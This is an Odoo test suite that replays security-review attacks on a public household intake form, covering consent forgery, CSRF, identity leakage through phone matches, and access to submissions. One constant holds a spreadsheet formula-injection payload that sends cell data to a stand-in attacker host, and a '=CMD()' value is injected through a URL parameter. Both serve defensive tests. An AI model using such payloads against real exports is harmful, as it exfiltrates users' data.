"""The attacks of the security review, performed as they were: anonymous HTTP POSTs."""

import re
from urllib.parse import quote

from odoo import fields
from odoo.exceptions import AccessError
from odoo.tests import new_test_user, tagged

from .common import FORM, IntakeFormCase

FORMULA_CAMPAIGN = '=HYPERLINK("http://attacker.example/?d="&A1,"Voir")'
CSRF_TOKEN = re.compile(r"[0-9a-f]{40}o\d+")


@tagged("post_install", "-at_install")
class TestIntakeSecurity(IntakeFormCase):

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.concierge = new_test_user(cls.env, "intake_concierge", groups="territory_concierge.group_concierge_user")
        # An existing household, qualified by staff, which withdrew its consent to partner sharing
        # and then ended its journey.
        cls.household = cls.env["crm.lead"].create({
            "name": "Famille Verrier", "contact_name": "Hélène Verrier", "email_from": "helene.verrier@example.org",
            "phone": "+33611223344", "team_id": cls.team.id, "type": "opportunity",
            "project_horizon": "12_24m", "user_id": cls.concierge.id,
            "household_member_ids": [(0, 0, {"role": "adult", "name": "Hélène"})],
            "consent_ids": [(0, 0, {"purpose": "concierge_contact", "source": "phone", "wording": "Oral"}),
                            (0, 0, {"purpose": "partner_sharing", "source": "phone", "wording": "Oral"})],
        })
        cls.household.consent_ids.filtered(lambda c: c.purpose == "partner_sharing").action_withdraw()
        cls.household.action_set_lost()
        # A household imported from a campaign with its phone only.
        cls.phone_only = cls.env["crm.lead"].create({
            "name": "Famille Marchetti", "contact_name": "Paolo Marchetti", "phone": "+33647319208",
            "team_id": cls.team.id, "type": "opportunity",
        })

    def _snapshot(self, journey):
        journey.invalidate_recordset()
        return {
            "active": journey.active, "stage": journey.stage_id.id, "email": journey.email_from,
            "phone": journey.phone, "contact": journey.contact_name, "horizon": journey.project_horizon,
            "origin": journey.origin_city, "profiles": journey.profile_ids.ids, "interests": journey.interest_ids.ids,
            "members": journey.household_member_ids.ids,
            "consents": journey.consent_ids.read(["purpose", "is_active", "date_given", "date_withdrawn"]),
        }

    # 1. The public form changes an existing household's file ------------------------------

    def test_anonymous_submission_never_changes_an_existing_journey(self):
        before = self._snapshot(self.household)
        response = self._submit(self._valid_post(
            first_name="Hélène", last_name="Verrier", email="Helene.Verrier@example.org", phone="06 99 88 77 66",
            consent_partner_sharing="1", consent_ambassador="1", consent_newsletter="1"))
        self.assertEqual(response.status_code, 303, response.text[:500])
        self.assertEqual(self._snapshot(self.household), before,
                         "no consent, data or state of the existing journey changed")
        self.assertFalse(self.household.active, "a lost journey stays lost until a concierge reopens it")
        self.assertEqual(len(self._journeys("helene.verrier@example.org")), 1, "and no duplicate was created")
        submission = self.env["territory.intake.submission"].search([("journey_id", "=", self.household.id)])
        self.assertEqual((len(submission), submission.state, submission.match_kind), (1, "pending", "email"))
        activity = submission.activity_id
        self.assertEqual((activity.res_model, activity.res_id), ("crm.lead", self.household.id),
                         "staff get the submission as an activity on the journey")
        self.assertIn("06 99 88 77 66", activity.note, "showing what was typed")
        self.assertIn(f"/odoo/territory.intake.submission/{submission.id}", activity.note)
        self.assertEqual(activity.user_id, self.household.user_id, "of the journey's concierge")

    def test_consents_need_the_confirmation_link_and_a_post(self):
        self._submit(self._valid_post(consent_ambassador="1"))
        journey = self._journeys("anais.hebert@example.org")
        self.assertEqual(len(journey), 1)
        self.assertFalse(journey.consent_ids, "no consent before the address is proven")
        token = self._confirmation_token("anais.hebert@example.org")
        # Mail scanners fetch links: GET and HEAD change nothing.
        self.assertEqual(self.url_open(f"{FORM}/confirmer/{token}").status_code, 200)
        self.opener.head(self.base_url() + f"{FORM}/confirmer/{token}")
        journey.invalidate_recordset()
        self.assertFalse(journey.consent_ids)
        # A POST without the page's CSRF token is refused.
        self.assertEqual(self.url_open(f"{FORM}/confirmer/{token}", data={"confirm": "1"}).status_code, 400)
        # A wrong token confirms nothing.
        self.assertEqual(self.url_open(f"{FORM}/confirmer/{'x' * 43}").status_code, 404)
        before = fields.Datetime.now()
        response = self._confirm(token)
        self.assertEqual(response.status_code, 200, response.text[:500])
        self.assertIn("confirmée", response.text)
        journey.invalidate_recordset()
        self.assertEqual(set(journey.consent_ids.mapped("purpose")),
                         {"concierge_contact", "partner_sharing", "ambassador"})
        for consent in journey.consent_ids:
            self.assertEqual(consent.source, "web_form")
            self.assertTrue(consent.is_active)
            self.assertGreaterEqual(consent.date_given, before.replace(microsecond=0), "dated of the confirmation")
        submission = self.env["territory.intake.submission"].search([("journey_id", "=", journey.id)])
        self.assertEqual(submission.state, "confirmed")
        # A second press records nothing more.
        self._confirm(token)
        journey.invalidate_recordset()
        self.assertEqual(len(journey.consent_ids), 3)

    def test_confirmed_consents_of_a_matched_journey_and_staff_apply(self):
        self._submit(self._valid_post(first_name="Hélène", last_name="Verrier", email="helene.verrier@example.org",
                                      project_horizon="lt_6m", consent_newsletter="1"))
        submission = self.env["territory.intake.submission"].search([("journey_id", "=", self.household.id)])
        active_before = self.household.consent_ids.filtered("is_active")
        self._confirm(self._confirmation_token("helene.verrier@example.org"))
        self.household.invalidate_recordset()
        self.assertEqual(self.household.consent_ids.filtered("is_active"), active_before,
                         "the link never changes an existing journey's consents by itself (a withdrawn one "
                         "stays withdrawn until a concierge applies the proven application)")
        self.assertEqual(submission.state, "confirmed")
        self.assertFalse(self.household.active, "confirming does not reopen a lost journey")
        self.assertFalse(self.household.origin_city, "nor fills the journey")
        activity = submission.activity_id
        self.assertTrue(activity)
        # One click by the concierge: fills what is missing, never overwrites what staff qualified.
        submission.with_user(self.concierge).action_apply()
        self.assertEqual(submission.state, "applied")
        self.assertEqual(self.household.origin_city, "Reims")
        self.assertEqual(self.household.project_horizon, "12_24m")
        self.assertEqual(self.household.phone, "+33611223344")
        self.assertIn(self.profile_health, self.household.profile_ids)
        self.assertFalse(self.household.active)
        self.assertFalse(activity.exists().filtered("active"), "the activity is done")
        active = self.household.consent_ids.filtered("is_active")
        self.assertEqual(set(active.mapped("purpose")), {"concierge_contact", "partner_sharing", "newsletter"},
                         "applied by staff, the proven consents count")

    def test_consents_confirmed_after_staff_applied_and_erasure(self):
        self._submit(self._valid_post(first_name="Hélène", last_name="Verrier", email="helene.verrier@example.org"))
        submission = self.env["territory.intake.submission"].search([("journey_id", "=", self.household.id)])
        submission.with_user(self.concierge).action_apply()
        self._confirm(self._confirmation_token("helene.verrier@example.org"))
        self.assertEqual(submission.state, "applied")
        self.assertTrue(submission.date_confirmed)
        self.assertFalse(self.household._has_active_consent("partner_sharing"),
                         "applied before the address was proven: no consent recorded, the link adds none later")
        # The household's access and erasure rights cover what it typed in the form.
        _name, content = self.household._personal_data_export()
        self.assertIn("Nous aimons la nature.", content.decode())
        self.household.action_anonymise_on_request()
        self.assertFalse(submission.exists(), "what was typed is erased with the journey's data")

    def test_staff_cannot_forge_what_an_application_proves(self):
        """Third outside review (H5): consents recorded by the website channel take their proof
        (wording, date of the confirmation) from the application; staff cannot write it there."""
        self._submit(self._valid_post(first_name="Hélène", last_name="Verrier", email="helene.verrier@example.org"))
        submission = self.env["territory.intake.submission"].search([("journey_id", "=", self.household.id)])
        manager = new_test_user(self.env, "intake_manager", groups="territory_concierge.group_concierge_manager")
        for vals in ({"date_confirmed": "2020-01-01 10:00:00"},
                     {"consents": [{"purpose": "newsletter", "wording": "forged"}]},
                     {"journey_id": self.household.id, "match_kind": "email", "email": "autre@example.org"}):
            with self.subTest(vals=vals), self.assertRaises(AccessError), self.cr.savepoint():
                submission.with_user(manager).write(vals)
        with self.assertRaises(AccessError), self.cr.savepoint():
            self.env["territory.intake.submission"].with_user(manager).create({
                "contact_name": "Faux", "email": "helene.verrier@example.org", "journey_id": self.household.id,
                "match_kind": "email", "date_confirmed": "2020-01-01 10:00:00",
                "consents": [{"purpose": "partner_sharing", "wording": "forged"}]})
        self.assertFalse(submission.date_confirmed)
        submission.with_user(self.concierge).action_apply()
        self.assertFalse(self.household.consent_ids.filtered(lambda c: c.wording == "forged"))

    # 2. A phone number tells a stranger who the household is --------------------------------

    def test_phone_match_neither_reveals_nor_hands_over_a_journey(self):
        response = self._submit(self._valid_post(first_name="Max", last_name="Lenoir", email="max.lenoir@example.org",
                                                 phone="06 47 31 92 08"))
        self.assertEqual(response.status_code, 303)
        self.phone_only.invalidate_recordset()
        self.assertFalse(self.phone_only.email_from, "the journey's contact details change only by staff")
        new_journey = self._journeys("max.lenoir@example.org")
        self.assertEqual(len(new_journey), 1, "the phone alone does not make two people one household")
        self.assertNotEqual(new_journey, self.phone_only)
        activity = self.env["mail.activity"].search([("res_model", "=", "crm.lead"), ("res_id", "=", new_journey.id),
                                                     ("summary", "ilike", "doublon")])
        self.assertEqual(len(activity), 1, "flagged as a possible duplicate for the concierge")
        self.assertIn("Famille Marchetti", activity.note)
        mail_body = self._mails_to("max.lenoir@example.org").body_html
        self.assertNotIn("Marchetti", mail_body)
        self.assertIn("Max Lenoir", mail_body)

    def test_page_and_mail_are_the_same_whether_a_household_matched_or_not(self):
        identity = {"first_name": "Zoé", "last_name": "Caron"}
        cases = {
            "email match": {"email": "helene.verrier@example.org", "phone": "06 10 20 30 40"},
            "phone match": {"email": "zoe.c1@example.org", "phone": "06 11 22 33 44"},
            "no match": {"email": "zoe.c2@example.org", "phone": "06 10 20 30 41"},
        }
        pages, bodies = {}, {}
        for case, contact in cases.items():
            response = self._submit(self._valid_post(**identity, **contact))
            self.assertEqual(response.status_code, 303)
            pages[case] = CSRF_TOKEN.sub("CSRF", self.url_open(response.headers["Location"]).text)
            mail = self._mails_to(contact["email"])
            self.assertEqual(len(mail), 1, case)
            bodies[case] = re.sub(r"/confirmer/[\w-]+", "/confirmer/TOKEN", mail.body_html)
            self.assertNotIn("Verrier", bodies[case] + mail.subject)
            token = self._confirmation_token(contact["email"])
            confirmation = self.url_open(f"{FORM}/confirmer/{token}").text
            pages[case + " confirmation"] = CSRF_TOKEN.sub("CSRF", confirmation.replace(token, "TOKEN"))
        self.assertEqual(bodies["email match"], bodies["no match"])
        self.assertEqual(bodies["phone match"], bodies["no match"])
        for page in ("", " confirmation"):
            self.assertEqual(pages["email match" + page], pages["no match" + page])
            self.assertEqual(pages["phone match" + page], pages["no match" + page])

    # 8. The stock contact form bypasses the project's form -----------------------------------

    def test_stock_contact_form_creates_no_journey(self):
        self.url_open("/contactus")
        for index in range(3):
            self.url_open("/website/form/crm.lead", data={
                "name": "Projet", "contact_name": f"Robot {index}", "email_from": f"robot{index}@example.org",
                "team_id": str(self.team.id), "user_id": str(self.concierge.id), "description": "spam",
            })
        leads = self.env["crm.lead"].with_context(active_test=False).search([("email_from", "ilike", "robot")])
        self.assertFalse(leads.filtered("is_journey"), "no journey without the project's form")
        self.assertFalse(leads.filtered(lambda lead: lead.user_id == self.concierge),
                         "a visitor does not choose who receives the lead")

    # 11. Campaigns made up by visitors -------------------------------------------------------

    def test_visitor_parameters_create_no_campaign(self):
        known = self.env["utm.campaign"].create({"name": "Printemps 2026"})
        self.url_open(f"{FORM}?utm_campaign={quote(FORMULA_CAMPAIGN)}&utm_source=%3DCMD()")
        self._submit(self._valid_post())
        self.assertFalse(self.env["utm.campaign"].with_context(active_test=False).search(
            [("name", "=", FORMULA_CAMPAIGN)]), "no campaign created from a visitor's parameter")
        self.assertFalse(self.env["utm.source"].search([("name", "=", "=CMD()")]))
        journey = self._journeys("anais.hebert@example.org")
        self.assertFalse(journey.campaign_id)
        self.assertEqual(journey.source_id, self.env.ref("territory_concierge_website.utm_source_web_form"))
        submission = self.env["territory.intake.submission"].search([("journey_id", "=", journey.id)])
        self.assertTrue(submission.utm_campaign_raw.startswith("=HYPERLINK("), "the raw value is kept as text")
        # A campaign the conciergerie created is linked (case and wildcards do not widen the match).
        self.url_open(f"{FORM}?utm_campaign=printemps+2026")
        self._submit(self._valid_post(email="b@example.org", phone="0611111111"))
        self.assertEqual(self._journeys("b@example.org").campaign_id, known)
        self.url_open(f"{FORM}?utm_campaign=Printemps%25")
        self._submit(self._valid_post(email="c@example.org", phone="0622222222"))
        self.assertFalse(self._journeys("c@example.org").campaign_id)

    def test_visitor_campaign_is_text_on_the_journey(self):
        """?utm_campaign=xyz on the form's link: no campaign is created (Odoo's UTM mixin would, from
        the cookie, on a lead's creation); the name is kept as text on the journey."""
        campaigns = self.env["utm.campaign"].with_context(active_test=False).search([])
        self.url_open(f"{FORM}?utm_campaign=xyz")
        self._submit(self._valid_post())
        self.assertEqual(self.env["utm.campaign"].with_context(active_test=False).search([]), campaigns,
                         "a visitor's link creates no campaign")
        journey = self._journeys("anais.hebert@example.org")
        self.assertFalse(journey.campaign_id)
        self.assertEqual(journey.visitor_campaign, "xyz")

    def test_confirmation_email_signed_by_the_conciergerie(self):
        """The e-mail of the public form signs with the conciergerie (name, address, phone), never
        with Odoo's placeholder company."""
        company = self.env.company
        company.write({"name": "Conciergerie de Haute-Marne", "street": "89 rue Victoire de la Marne",
                       "street2": False, "zip": "52000", "city": "Chaumont",
                       "phone": "+33 3 25 32 00 00"})
        self._submit(self._valid_post())
        body = self._mails_to("anais.hebert@example.org")[-1].body_html
        for expected in (company.name, "89 rue Victoire de la Marne, 52000 Chaumont", "+33 3 25 32 00 00"):
            self.assertIn(expected, body)
        for placeholder in ("Mon entreprise", "My Company", "YourCompany"):
            self.assertNotIn(placeholder, body)

    # Access to the submissions ---------------------------------------------------------------

    def test_submissions_are_for_conciergerie_staff_only(self):
        self._submit(self._valid_post())
        Submission = self.env["territory.intake.submission"]
        submission = Submission.search([("email", "=", "anais.hebert@example.org")])
        self.assertTrue(submission)
        portal = new_test_user(self.env, "intake_portal", groups="base.group_portal")
        employee = new_test_user(self.env, "intake_employee", groups="base.group_user,sales_team.group_sale_manager")
        for user in (portal, employee):
            with self.assertRaises(AccessError):
                Submission.with_user(user).search([])
            with self.assertRaises(AccessError):
                submission.with_user(user).read(["email"])
            with self.assertRaises(AccessError):
                submission.with_user(user).write({"state": "discarded"})
        self.assertEqual(Submission.with_user(self.concierge).search([("id", "=", submission.id)]), submission)
        self.assertNotIn("token", submission.with_user(self.concierge).fields_get(), "the secret is not shown to staff")
